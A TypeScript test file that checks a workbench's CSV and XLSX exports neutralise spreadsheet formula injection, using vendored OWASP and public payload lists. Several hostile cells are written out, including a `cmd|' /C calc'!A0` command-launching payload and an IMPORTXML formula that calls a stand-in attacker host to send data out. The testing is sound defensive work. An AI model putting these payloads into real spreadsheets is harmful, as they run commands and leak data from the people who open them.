// Formula injection: hostile text from articles, sources and notes must reach a spreadsheet as
// literal text. Payloads are the public lists vendored in fixtures/csv-injection (see README).
// CSV cells carry OWASP's apostrophe; XLSX cells are strings, written as typed with the quote
// prefix, and LibreOffice reads them back to show no formula came alive.
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_TRIGGERS, restoreCell } from '../../shared/export/cells';
import { buildQuoteSheet } from '../../shared/export/quote-sheet';
import { csvField, writeCsv } from './csv';
import { GENERATED_AT, WorkspaceBuilder } from './test-support';
import { writeXlsx, xlsxText } from './xlsx';
import { needsQuotePrefix } from './xlsx-sheet';

const fixture = <T>(name: string): T =>
  JSON.parse(
    readFileSync(new URL(`./fixtures/csv-injection/${name}`, import.meta.url), 'utf8'),
  ) as T;

const owasp = fixture<{
  triggerPrefixes: string[];
  escapingExamples: { input: string; escapedOutput: string }[];
}>('owasp-csv-injection-vectors.json');
const lists = [
  ...fixture<string[]>('payloadbox-csv-payloads.json'),
  ...fixture<string[]>('payloadsallthethings-csv-payloads.json'),
  ...owasp.escapingExamples.map((e) => e.input),
  ...[...owasp.triggerPrefixes, '\0'].map((t) => `${t}cmd|' /C calc'!A0`),
];
// OWASP: an attacker may also try to start a new cell mid-value, or hide behind a quote.
const PAYLOADS = [...new Set(lists.flatMap((p) => [p, ...[',', ';', '"', "'"].map((c) => c + p)]))];

/** One quote per payload, the payload in every free-text field a sheet shows. */
function hostileSheet(payloads: readonly string[] = PAYLOADS) {
  const b = new WorkspaceBuilder();
  const doc = b.document({
    title: payloads[0]!,
    outlet: payloads[1]!,
    authors: [payloads[2]!, payloads[3]!],
    url: payloads[4]!,
    language: payloads[5]!,
    text: 'He said "yes".',
  });
  for (const payload of payloads) {
    const q = b.quote(doc, 'yes', { note: payload, cue: payload });
    b.attribute(q, b.source(payload, 'person', payload));
  }
  const columns = [
    ...['note', 'cue', 'speaker', 'speakerRole'],
    ...['article', 'outlet', 'authors', 'url', 'language'],
  ] as const;
  return buildQuoteSheet(b.data, { groupBy: 'none', columns: [...columns] }, GENERATED_AT);
}

const startsLikeFormula = (cell: string) => FORMULA_TRIGGERS.includes(cell.charAt(0));

/** One part of an XLSX package (a zip archive) as text, found through its central directory. */
function xlsxPart(zip: Buffer, name: string): string {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = zip.readUInt32LE(end + 16);
  for (let i = zip.readUInt16LE(end + 10); i > 0; i--) {
    const [nameLength, extra, comment] = [28, 30, 32].map((o) => zip.readUInt16LE(at + o)) as [
      number,
      number,
      number,
    ];
    if (zip.toString('utf8', at + 46, at + 46 + nameLength) === name) {
      const local = zip.readUInt32LE(at + 42);
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      const data = zip.subarray(start, start + zip.readUInt32LE(at + 20));
      return (zip.readUInt16LE(at + 10) === 8 ? zlib.inflateRawSync(data) : data).toString();
    }
    at += 46 + nameLength + extra + comment;
  }
  throw new Error(`the archive has no ${name}`);
}

/**
 * The addresses of the first sheet's cells whose style has quotePrefix="1", read from the XML
 * (exceljs reads values and most of a style, but not the quote prefix).
 */
function quotePrefixedCells(xlsx: Uint8Array): Set<string> {
  const zip = Buffer.from(xlsx);
  const cellXfs = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(xlsxPart(zip, 'xl/styles.xml'))![1]!;
  const quoted = new Set<string>();
  cellXfs.match(/<xf [^>]*>/g)!.forEach((xf, id) => {
    if (/ quotePrefix="(1|true)"/.test(xf)) quoted.add(String(id));
  });
  const cells = new Set<string>();
  for (const [, ref, style] of xlsxPart(zip, 'xl/worksheets/sheet1.xml').matchAll(
    /<c r="([A-Z]+[0-9]+)" s="([0-9]+)"/g,
  )) {
    if (quoted.has(style!)) cells.add(ref!);
  }
  return cells;
}

/** Where an executable is on the PATH, or null. */
function onPath(name: string): string | null {
  for (const dir of (process.env.PATH ?? '').split(path.delimiter)) {
    if (dir !== '' && existsSync(path.join(dir, name))) return path.join(dir, name);
  }
  return null;
}

describe('formula injection', () => {
  const sheet = hostileSheet();

  it('uses every vendored payload', () => {
    expect(lists.length).toBe(6 + 12 + 2 + 8);
    expect(sheet.quoteCount).toBe(PAYLOADS.length);
  });

  it("turns OWASP's escaping examples into exactly OWASP's escaped output", async () => {
    for (const { input, escapedOutput } of owasp.escapingExamples) {
      expect(csvField(input)).toBe(escapedOutput);
    }
    const text = new TextDecoder().decode(await writeCsv(sheet));
    for (const { escapedOutput } of owasp.escapingExamples) expect(text).toContain(escapedOutput);
  });

  it('reads every payload back from the CSV as literal text, never a formula', async () => {
    const text = new TextDecoder().decode(await writeCsv(sheet));
    const { data: rows, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(errors).toEqual([]);
    const body = rows.slice(1);
    expect(body).toHaveLength(PAYLOADS.length);
    for (const cells of body) {
      expect(cells).toHaveLength(9);
      for (const cell of cells) expect(startsLikeFormula(cell)).toBe(false);
      expect(new Set(cells.slice(0, 4).map(restoreCell)).size).toBe(1);
    }
    // Rows follow quote ids, not the list: compare what came back as a whole.
    expect(body.map((cells) => restoreCell(cells[0]!)).sort()).toEqual([...PAYLOADS].sort());
  });

  it('writes every payload to the XLSX as typed, in a string cell with the quote prefix', async () => {
    const bytes = await writeXlsx(sheet);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('Quotes')!;
    expect(ws.rowCount).toBe(PAYLOADS.length + 1);
    const prefixed = quotePrefixedCells(bytes);
    const values: unknown[] = [];
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      for (let c = 1; c <= 9; c++) {
        const cell = row.getCell(c);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(prefixed.has(cell.address)).toBe(needsQuotePrefix(String(cell.value)));
      }
      expect(new Set([1, 2, 3, 4].map((c) => row.getCell(c).value)).size).toBe(1);
      values.push(row.getCell(1).value);
    }
    // The text as typed: only what XML cannot hold changes (NUL shows as U+FFFD, CR as LF).
    expect(values.sort()).toEqual(PAYLOADS.map(xlsxText).sort());
    const changed = PAYLOADS.filter((p) => xlsxText(p) !== p);
    expect(changed).toHaveLength(2 * 5);
    for (const p of changed) expect(p).toMatch(/^[,;"']?[\r\0]/);
    expect(values).toContain('=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")');
    expect(values).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
  });

  it("writes an article's authors and URL that look like formulas as text", async () => {
    const b = new WorkspaceBuilder();
    const doc = b.document({
      authors: ['=HYPERLINK("x")', 'Jane Doe'],
      url: "@SUM(1+1)*cmd|' /C calc'!A0",
      text: 'He said "yes".',
    });
    b.quote(doc, 'yes');
    const sheet = buildQuoteSheet(
      b.data,
      { groupBy: 'none', columns: ['authors', 'url'] },
      GENERATED_AT,
    );
    // The byte-order mark kept, so the comparison covers every byte.
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await writeCsv(sheet))).toBe(
      '\uFEFF"Authors","URL"\r\n' +
        '"\'=HYPERLINK(""x""); Jane Doe","\'@SUM(1+1)*cmd|\' /C calc\'!A0"\r\n',
    );
    const bytes = await writeXlsx(sheet);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const row = wb.getWorksheet('Quotes')!.getRow(2);
    expect([1, 2].map((c) => [row.getCell(c).type, row.getCell(c).value])).toEqual([
      [ExcelJS.ValueType.String, '=HYPERLINK("x"); Jane Doe'],
      [ExcelJS.ValueType.String, "@SUM(1+1)*cmd|' /C calc'!A0"],
    ]);
    expect([...quotePrefixedCells(bytes)].sort()).toEqual(['A2', 'B2']);
  });
});

// LibreOffice is the reader that would evaluate a formula: it converts the workbook to CSV, which
// shows each cell's value. CI installs it (.ci/run); elsewhere the test fails without it unless
// WORKBENCH_SKIP_SOFFICE=1 says to skip.
const SOFFICE = onPath('soffice');
const SKIP_SOFFICE = SOFFICE === null && process.env.WORKBENCH_SKIP_SOFFICE === '1';
if (SKIP_SOFFICE) {
  console.warn(
    'injection.test.ts: skipping the LibreOffice read-back: soffice is not on the PATH and ' +
      'WORKBENCH_SKIP_SOFFICE=1 is set',
  );
}

describe('formula injection, read back by LibreOffice', () => {
  // Payloads whose formula would give a plain value if evaluated, besides the vendored ones.
  const payloads = [...PAYLOADS, '=1+1', '+1+1', '-1+1', '@SUM(1;1)', '=1+2";=1+2', "'=1+1"];

  it.skipIf(SKIP_SOFFICE)(
    'shows every payload as typed, none evaluated',
    async () => {
      if (SOFFICE === null) {
        throw new Error(
          'LibreOffice (soffice) is not on the PATH: install libreoffice-calc-nogui, as .ci/run ' +
            'does, or set WORKBENCH_SKIP_SOFFICE=1 to skip this test',
        );
      }
      const dir = mkdtempSync(path.join(tmpdir(), 'workbench-soffice-'));
      try {
        const xlsx = path.join(dir, 'hostile.xlsx');
        writeFileSync(xlsx, await writeXlsx(hostileSheet(payloads)));
        // One conversion for every case (soffice takes seconds to start), with a profile of its
        // own, so a LibreOffice the user has open is neither used nor disturbed. The filter's
        // options: comma, double quote, UTF-8, every text cell quoted, values rather than formats.
        await promisify(execFile)(
          SOFFICE,
          [
            '--headless',
            '--norestore',
            `-env:UserInstallation=${pathToFileURL(path.join(dir, 'profile')).href}`,
            '--convert-to',
            'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false',
            '--outdir',
            dir,
            xlsx,
          ],
          { timeout: 150_000 },
        );
        const csvPath = path.join(dir, 'hostile.csv');
        expect(existsSync(csvPath), `soffice wrote no ${csvPath}`).toBe(true);
        const { data: rows, errors } = Papa.parse<string[]>(readFileSync(csvPath, 'utf8'), {
          skipEmptyLines: true,
        });
        expect(errors).toEqual([]);
        expect(rows[0]).toEqual([
          'Note',
          'Cue',
          'Speaker',
          'Speaker role',
          'Article',
          'Outlet',
          'Authors',
          'URL',
          'Language',
        ]);
        const body = rows.slice(1);
        expect(body).toHaveLength(payloads.length);
        // As typed, but for what XML cannot hold (see the exceljs test above).
        const [title, outlet, author1, author2, url, language] = payloads.map(xlsxText);
        const articleCells = [title, outlet, `${author1}; ${author2}`, url, language];
        for (const cells of body) {
          expect(new Set(cells.slice(0, 4)).size).toBe(1);
          expect(cells.slice(4)).toEqual(articleCells);
        }
        expect(body.map((cells) => cells[0]).sort()).toEqual(payloads.map(xlsxText).sort());
        // An evaluated =1+1 would read 2 (an exporter writing <f>1+1</f> fails right here).
        expect(body.flat()).not.toContain('2');
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
    180_000,
  );
});
